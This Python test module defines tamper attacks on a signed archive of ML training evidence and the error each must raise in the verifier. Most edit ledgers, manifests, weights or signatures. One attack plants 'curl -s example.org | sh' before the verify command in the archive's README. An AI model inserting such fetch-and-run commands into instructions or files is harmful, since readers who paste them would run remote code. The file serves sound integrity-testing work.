"""The attacks: what is done to an honest archive, and what must notice it. docs/guide/verify.md prints this table."""

from __future__ import annotations

import gzip
import json
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import rfc8785

from harness.evidence.ledger import rechain
from harness.signing.bundle import parse_bundle
from harness.system.store import tree_digest
from tests.tamper.made_archive import BUNDLE, KEY, Made, edit_json


@dataclass(frozen=True)
class Attack:
    """What is done, in words; what the answer must say; and the archive that comes of it."""

    name: str
    what: str
    notices: str
    make: Callable[[Made], Path]


ATTACKS: list[Attack] = []


def attack(what: str, notices: str) -> Callable[[Callable[[Made], Path]], Callable[[Made], Path]]:
    def add(make: Callable[[Made], Path]) -> Callable[[Made], Path]:
        ATTACKS.append(Attack(make.__name__, what, notices, make))
        return make

    return add


# The file, without a key: its form.


@attack("two blobs swap their contents", "are not what they were")
def blobs_swapped(made):
    members = made.members()
    one, two = [number for number, (_, data) in enumerate(members) if len(data) == 680][:2]
    members[one], members[two] = (members[one][0], members[two][1]), (members[two][0], members[one][1])
    return made.packed(members)


@attack("two members swap their places", "is no member that an archive has there")
def members_swapped(made):
    members = made.members()
    members[-1], members[-2] = members[-2], members[-1]
    return made.packed(members)


@attack("a member removed", "is missing")
def member_removed(made):
    members = made.members()
    return made.packed(members[:-1])


@attack("a member added that nothing refers to", "belongs to nothing")
def member_added(made):
    import hashlib

    data = b"a stranger"
    members = made.members()
    members.append((f"blobs/sha256/{hashlib.sha256(data).hexdigest()}", data))
    return made.packed([*members[:5], *sorted(members[5:])])


@attack("the README that comes first edited", "its README.txt is not what the run has under that name")
def readme_edited(made):
    members = made.members()
    assert members[0][0] == "README.txt"
    return made.packed([("README.txt", members[0][1].replace(b"VERDICT", b"verdict")), *members[1:]])


@attack("the report that comes first is another run's", "its report.html is not what the run has under that name")
def report_of_another_first(made):
    members = made.members()
    other = made.titles(made.other_archive)["report.html"]
    return made.packed([members[0], ("report.html", other), *members[2:]])


@attack("what comes first left out", "does not begin with the files that people read first")
def named_members_left_out(made):
    return made.packed(made.members()[3:])


@attack("a member twice", "is no member that an archive has there")
def member_twice(made):
    members = made.members()
    return made.packed([*members, members[-1]])


@attack("a member renamed", "is missing")
def member_renamed(made):
    members = made.members()
    members[-1] = ("blobs/sha256/" + "f" * 64, members[-1][1])
    return made.packed(members)


@attack("a byte behind the end", "does not end where its last member ends")
def byte_behind_the_end(made):
    return made.raw(made.archive.read_bytes() + b"\0")


@attack("the second half cut off", "reaches beyond the end")
def cut_in_half(made):
    data = made.archive.read_bytes()
    return made.raw(data[: len(data) // 2])


@attack("the same tar with a time in one header", "its header is not the canonical one")
def time_in_a_header(made):
    import io
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for number, (name, data) in enumerate(made.members()):
            member = tarfile.TarInfo(name)
            member.size, member.mtime = len(data), int(number == 3)
            tar.addfile(member, io.BytesIO(data))
    return made.raw(buffer.getvalue())


@attack("the archive compressed", "is no archive of a run")
def compressed(made):
    return made.raw(gzip.compress(made.archive.read_bytes()))


@attack("`index.json` with its keys in another order", "index")
def index_reordered(made):
    members = dict(made.members())
    value = json.loads(members["index.json"])
    members["index.json"] = json.dumps(dict(reversed(value.items()))).encode()
    return made.packed(list(members.items()))


# The file, without a key: put together anew, in perfect form, of other contents.


def retitled(made: Made, change: Callable[[dict[str, bytes]], object]) -> Path:
    titles = made.titles()
    change(titles)
    return made.rewritten(titles)


@attack("a file of evidence replaced by another run's", "is not what the certificate lists")
def file_of_another_run(made):
    other = made.titles(made.other_archive)
    return retitled(made, lambda titles: titles.update({"verdict.json": other["verdict.json"]}))


@attack("a file of evidence left out", "is missing, which the certificate lists")
def file_left_out(made):
    return retitled(made, lambda titles: titles.pop("rerun/runs/1/ledger.jsonl"))


@attack("a file of evidence added", "is not in the certificate's list of evidence")
def file_added(made):
    return retitled(made, lambda titles: titles.update({"straight/output/more.txt": b"more"}))


@attack("a file of evidence renamed", "is not in the certificate's list of evidence")
def file_renamed(made):
    return retitled(made, lambda titles: titles.update({"straight/output/b.jsonl": titles.pop("straight/log-1.txt")}))


@attack("a file of evidence edited", "is not what the certificate lists")
def file_edited(made):
    return retitled(made, lambda t: t.update({"straight/log-1.txt": t["straight/log-1.txt"] + b"well done\n"}))


@attack("two files of evidence exchange their names", "is not what the certificate lists")
def files_exchanged(made):
    one, two = "straight/output/checkpoints/step2.safetensors", "straight/output/checkpoints/step4.safetensors"
    return retitled(made, lambda titles: titles.update({one: titles[two], two: titles[one]}))


@attack("the certificate of another run, signed by the same key", "is not what the certificate lists")
def certificate_of_another_run(made):
    return retitled(made, lambda titles: titles.update({BUNDLE: made.titles(made.other_archive)[BUNDLE]}))


@attack("`key.json` exchanged for another key", "is signed by key")
def key_exchanged(made):
    return retitled(made, lambda titles: titles.update({KEY: made.attacker.key.render()}))


@attack("`key.json` left out", "is missing")
def key_left_out(made):
    return retitled(made, lambda titles: titles.pop(KEY))


@attack("the bundle left out", "is missing")
def bundle_left_out(made):
    return retitled(made, lambda titles: titles.pop(BUNDLE))


def rebundled(made: Made, change: Callable[[list[bytes]], list[bytes]]) -> Path:
    def edit(titles):
        titles[BUNDLE] = b"".join(change(titles[BUNDLE].splitlines(keepends=True)))

    return retitled(made, edit)


@attack("a signature moved from one envelope to another", "does not fit what it signs")
def signature_moved(made):
    def move(lines):
        signatures = [re.search(rb'"sig":"([^"]+)"', line)[1] for line in lines]
        return [line.replace(signatures[n], signatures[(n + 1) % 3]) for n, line in enumerate(lines)]

    return rebundled(made, move)


@attack("the envelopes in another order", "does not fit its schema")
def envelopes_reordered(made):
    return rebundled(made, lambda lines: [lines[1], lines[0], lines[2]])


@attack("the provenance and the test result in another order", "does not follow from verdict.json and manifest.json")
def companions_reordered(made):
    return rebundled(made, lambda lines: [lines[0], lines[2], lines[1]])


@attack("an envelope left out", "it takes 3")
def envelope_left_out(made):
    return rebundled(made, lambda lines: lines[:2])


@attack("an envelope twice", "it takes 3")
def envelope_twice(made):
    return rebundled(made, lambda lines: [*lines, lines[2]])


@attack("the provenance of another run, signed by the same key", "does not follow from verdict.json and manifest.json")
def companion_of_another_run(made):
    other = made.titles(made.other_archive)[BUNDLE].splitlines(keepends=True)
    return rebundled(made, lambda lines: [lines[0], other[1], lines[2]])


@attack("a space more in an envelope", "no DSSE envelope in canonical form")
def envelope_with_a_space(made):
    return rebundled(made, lambda lines: [lines[0].replace(b',"', b', "', 1), *lines[1:]])


@attack("a spare bit of base64 set", "is not canonical base64")
def spare_bit(made):
    def set_bit(lines):
        alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        end = lines[0].rindex(b'=="') - 1
        other = alphabet[alphabet.index(lines[0][end]) ^ 1]
        return [lines[0][:end] + bytes([other]) + lines[0][end + 1 :], *lines[1:]]

    return rebundled(made, set_bit)


# With a key of his own: everything that follows is written again and signed anew, so only judging again can tell.


@attack("signed anew: the straight training copied over the resumed one", "does not follow from the evidence")
def straight_as_resumed(made):
    def copy(folder):
        shutil.copyfile(folder / "straight/runs/1/ledger.jsonl", folder / "resumed/runs/2/ledger.jsonl")
        shutil.copyfile(folder / "straight/runs/1/tensors.jsonl", folder / "resumed/runs/2/tensors.jsonl")
        shutil.copyfile(folder / "straight/runs/1/events.jsonl", folder / "resumed/runs/2/events.jsonl")

    return made.resigned(copy)


@attack("signed anew: the interrupted training is another run's straight one", "does not follow from the evidence")
def another_runs_training(made):
    def copy(folder):
        for name in ("ledger.jsonl", "tensors.jsonl", "events.jsonl"):
            source = made.other_folder / "straight/runs/1" / name
            for training in ("resumed", "control-optim"):
                shutil.copyfile(source, folder / training / "runs/1" / name)

    return made.resigned(copy)


def word_edited(folder, word="DIVERGED", code=1):
    edit_json(folder / "verdict.json", lambda verdict: verdict.update(verdict=word, exit_code=code))


@attack("signed anew: the verdict's word edited", "does not follow from the evidence: exit_code is 1 instead of 0")
def verdict_edited(made):
    return made.resigned(word_edited)


@attack("signed anew: the word edited, and the run said to be another version's", "exit_code is 1 instead of 0")
def verdict_of_another_version(made):
    def edit(folder):
        word_edited(folder)
        edit_json(folder / "manifest.json", lambda m: m["harness"].update(sources="sha256:" + "0" * 64))

    return made.resigned(edit)


def digit_edited(path: Path, step: int, *, chained: bool) -> None:
    lines = path.read_bytes().splitlines(keepends=True)
    for number, line in enumerate(lines):
        if f'"step":{step},'.encode() in line and b'"kind":"step"' in line:
            digest = re.search(rb'"param":"sha256:([0-9a-f]{64})"', line)[1]
            other = digest[:-1] + (b"0" if digest[-1:] != b"0" else b"1")
            lines[number] = line.replace(digest, other, 1)
    data = b"".join(lines)
    path.write_bytes(rechain(data) if chained else data)


@attack("signed anew: a digit of a ledger edited", "does not follow from the evidence")
def ledger_digit(made):
    return made.resigned(lambda f: digit_edited(f / "rerun/runs/1/ledger.jsonl", 5, chained=False))


@attack("signed anew: the same, with a new chain, without the digests beside it", "does not follow from the evidence")
def ledger_digit_rechained(made):
    def edit(folder):
        digit_edited(folder / "rerun/runs/1/ledger.jsonl", 5, chained=True)
        (folder / "rerun/runs/1/tensors.jsonl").unlink()

    return made.resigned(edit)


@attack("signed anew: the same digit edited in every ledger", "does not hash to what the ledger holds")
def every_ledger_digit(made):
    def edit(folder):
        for path in sorted(folder.glob("*/runs/*/ledger.jsonl")):
            digit_edited(path, 8, chained=True)

    return made.resigned(edit)


@attack("signed anew: a checkpoint replaced by an earlier one", "does not follow from the evidence")
def checkpoint_replaced(made):
    def copy(folder):
        output = folder / "resumed/output/checkpoints"
        shutil.copyfile(output / "step4.safetensors", output / "step8.safetensors")

    return made.resigned(copy)


@attack("signed anew: one bit of the final weights changed in one training", "does not follow from the evidence")
def weights_bit(made):
    def flip(folder):
        path = folder / "resumed/output/adapter.safetensors"
        data = bytearray(path.read_bytes())
        data[-1] ^= 1
        path.write_bytes(data)

    return made.resigned(flip)


@attack("signed anew: one bit of the final weights changed in every training", "does not follow from the evidence")
def weights_bit_everywhere(made):
    def flip(folder):
        for path in sorted(folder.glob("*/output/adapter.safetensors")):
            data = bytearray(path.read_bytes())
            data[-1] ^= 1
            path.write_bytes(data)

    return made.resigned(flip)


@attack("signed anew: a ledger left out of evidence and list", "does not follow from the evidence")
def evidence_shortened(made):
    return made.resigned(lambda folder: (folder / "rerun/runs/1/ledger.jsonl").unlink())


@attack("signed anew: the list of evidence shortened, the file still there", "is not in the certificate's list")
def list_shortened(made):
    titles = made.titles()
    archive = made.resigned(lambda folder: (folder / "straight/log-1.txt").unlink(), derive=False)
    titles |= {name: data for name, data in made.titles(archive).items() if name in (BUNDLE, KEY)}
    return made.rewritten(titles)


def interruption_dropped(manifest):
    from harness.verify.record import experiment_digest

    manifest["experiment"]["interruptions"] = []
    manifest["experiment"]["policy"]["required"] = ["rerun"]
    manifest["experiment_digest"] = str(experiment_digest(manifest["experiment"]))


@attack("signed anew: an interruption dropped from the manifest", "another experiment than the code declares")
def interruption_out_of_manifest(made):
    return made.resigned(lambda f: edit_json(f / "manifest.json", interruption_dropped), derive=False)


@attack("signed anew: an interruption dropped from manifest and code", "does not follow from the evidence")
def interruption_out_of_code(made):
    def edit(folder):
        path = folder / "code/pipelines/experiments/small.yaml"
        text = re.sub(r"interruptions: .*\n", "interruptions: []\n", path.read_text())
        path.write_text(text.replace("required: [rerun, resume]", "required: [rerun]"))
        edit_json(folder / "manifest.json", interruption_dropped)
        digest = str(tree_digest(folder / "code"))
        edit_json(folder / "manifest.json", lambda manifest: manifest["code"].update(sha256=digest))

    return made.resigned(edit)


@attack("signed anew: an output declared volatile afterwards", "another experiment than the code declares")
def volatile_added(made):
    from harness.verify.record import experiment_digest

    def change(manifest):
        manifest["experiment"]["policy"]["volatile"].append("loss")
        manifest["experiment_digest"] = str(experiment_digest(manifest["experiment"]))

    return made.resigned(lambda folder: edit_json(folder / "manifest.json", change), derive=False)


@attack("signed anew: a setting of one run that is not told of", "another experiment than the code declares")
def setting_hidden(made):
    from harness.verify.record import experiment_digest

    def change(manifest):
        manifest["experiment"]["config"]["seed"] = 18
        manifest["experiment_digest"] = str(experiment_digest(manifest["experiment"]))

    return made.resigned(lambda folder: edit_json(folder / "manifest.json", change), derive=False)


@attack("signed anew: the code edited", "the code's digest is")
def code_edited(made):
    def edit(folder):
        (folder / "code/train.py").write_text("print('something else')\n")

    return made.resigned(edit)


@attack("signed anew: the configuration edited that the processes were given", "is not the configuration")
def config_edited(made):
    return made.resigned(lambda folder: (folder / "config.json").write_text('{"seed":18}\n'))


@attack("signed anew: how a run ended edited in its record", "manifest.json and resumed/run-2.json disagree")
def record_edited(made):
    return made.resigned(lambda f: edit_json(f / "resumed/run-2.json", lambda run: run.update(exit_code=1)))


@attack("signed anew: how a run ended edited in record and manifest", "does not follow from the evidence")
def record_and_manifest_edited(made):
    def edit(folder):
        def change(manifest):
            for run in manifest["runs"]:
                if (run["trajectory"], run["number"]) == ("resumed", 1):
                    run.update(exit_code=0, killed_by=None)

        edit_json(folder / "resumed/run-1.json", lambda run: run.update(exit_code=0, killed_by=None))
        edit_json(folder / "manifest.json", change)

    return made.resigned(edit)


@attack("signed anew: the runs of a training dropped from the manifest", "do not name the same trajectories")
def training_dropped(made):
    def change(manifest):
        manifest["runs"] = [run for run in manifest["runs"] if run["trajectory"] != "rerun"]
        manifest["volatile"]["runs"] = [run for run in manifest["volatile"]["runs"] if run["run"] != "rerun/1"]

    return made.resigned(lambda folder: edit_json(folder / "manifest.json", change), derive=False)


@attack("signed anew: a digest of an output edited in the manifest", "manifest.json does not follow from the evidence")
def manifest_digest_edited(made):
    def change(manifest):
        manifest["trajectories"]["straight"]["files"]["adapter.safetensors"]["content"] = "sha256:" + "0" * 64

    return made.resigned(lambda folder: edit_json(folder / "manifest.json", change), derive=False)


@attack("signed anew: an output dropped from the manifest", "names other files than the evidence holds")
def manifest_file_dropped(made):
    def change(manifest):
        manifest["trajectories"]["rerun"]["files"].pop("metrics.jsonl")
        manifest["harness"]["sources"] = None

    return made.resigned(lambda folder: edit_json(folder / "manifest.json", change), derive=False)


@attack("signed anew: more compared than was", "does not follow from the evidence")
def amount_edited(made):
    return made.resigned(lambda f: edit_json(f / "verdict.json", lambda v: v["compared"].update(steps=24_000)))


@attack("signed anew: a control said to have been detected", "does not follow from the evidence")
def control_edited(made):
    def edit(folder):
        digit_edited(folder / "control-param/runs/1/ledger.jsonl", 1, chained=True)
        (folder / "control-param/runs/1/tensors.jsonl").unlink()

    return made.resigned(edit)


@attack("signed anew: a control that resumed from something else", "is not a copy of")
def control_from_elsewhere(made):
    def edit(folder):
        shutil.copyfile(folder / "straight/runs/1/events.jsonl", folder / "control-optim/runs/1/events.jsonl")

    return made.resigned(edit)


@attack("signed anew: what was not checked left out of the verdict", "verdict.json is not what this harness writes")
def not_checked_dropped(made):
    return made.resigned(lambda f: edit_json(f / "verdict.json", lambda v: v.update(not_checked=[])))


@attack("signed anew: another claim in the certificate", "the certificate does not follow from verdict.json")
def claim_added(made):
    def add(statement):
        statement["predicate"]["claims"].append("IDENTICAL_IMAGE_REBUILD")

    return made.resigned(lambda _: None, statement=add)


@attack("signed anew: a field more in the certificate", "does not fit its schema")
def field_added(made):
    def edit(titles):
        payloads = [envelope.payload for envelope in parse_bundle(titles[BUNDLE])]
        statement = json.loads(payloads[0])
        statement["predicate"]["price"] = 1
        titles[BUNDLE] = made.attacker.sign([rfc8785.dumps(statement), *payloads[1:]])
        titles[KEY] = made.attacker.key.render()

    return retitled(made, edit)


@attack("signed anew: the digest of an output edited in the certificate", "the certificate does not follow")
def subject_edited(made):
    def edit(statement):
        statement["subject"][0]["digest"]["sha256"] = "0" * 64

    return made.resigned(lambda _: None, statement=edit)


@attack("signed anew: another commit in verdict and certificate", "disagree about `commit`")
def commit_edited(made):
    return made.resigned(lambda f: edit_json(f / "verdict.json", lambda v: v.update(commit="d" * 40)), derive=False)


@attack("signed anew: the report edited", "report.html is not what this harness renders")
def report_edited(made):
    def edit(folder):
        path = folder / "report.html"
        path.write_text(path.read_text().replace("CERTIFIED", "GUARANTEED"))

    return made.resigned(edit, derive=False)


@attack("signed anew: the README edited", "README.txt is not what this harness renders")
def readme_edited_and_signed(made):
    def edit(folder):
        text = (folder / "README.txt").read_text()
        (folder / "README.txt").write_text(text.replace("harness verify", "curl -s example.org | sh; harness verify"))

    return made.resigned(edit, derive=False)


@attack("signed anew: the badge of a certified run on one that diverged", "badge.svg is not what this harness renders")
def badge_edited(made):
    return made.resigned(lambda f: (f / "badge.svg").write_text("<svg/>"), derive=False)
